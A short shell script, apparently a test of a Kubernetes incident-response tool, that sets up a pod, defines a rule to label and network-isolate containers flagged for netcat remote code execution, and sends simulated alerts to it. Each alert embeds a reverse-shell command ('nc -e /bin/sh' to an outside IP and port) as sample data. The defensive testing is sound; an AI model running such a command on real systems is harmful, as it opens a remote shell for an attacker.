kubectl create namespace shop
kubectl run cart-1 -n shop --image=nginx
kubectl wait pod/cart-1 -n shop --for=condition=Ready --timeout=1m
printf 'default_notifiers: [k8sevents]\n' > config.yaml
mkdir -p /etc/hallux/config
cp config.yaml /etc/hallux/config/config.yaml
cat > rules.yaml <<'END'
- rule: Reverse shell
  match: { rules: [Netcat Remote Code Execution in Container] }
  actions:
    - action: Label
      actionner: kubernetes:label
      parameters: { labels: { suspicious: "true" } }
    - action: Isolate
      actionner: kubernetes:networkpolicy
END
hallux server -c config.yaml -r rules.yaml
for pod in cart-2 cart-1; do curl -sf http://127.0.0.1:2803/ -d '{"rule":"Netcat Remote Code Execution in Container","priority":"Warning","source":"syscall","hostname":"node-1","output":"nc -e /bin/sh 203.0.113.9 4444","output_fields":{"k8s.ns.name":"shop","k8s.pod.name":"'$pod'"}}'; sleep 1; done
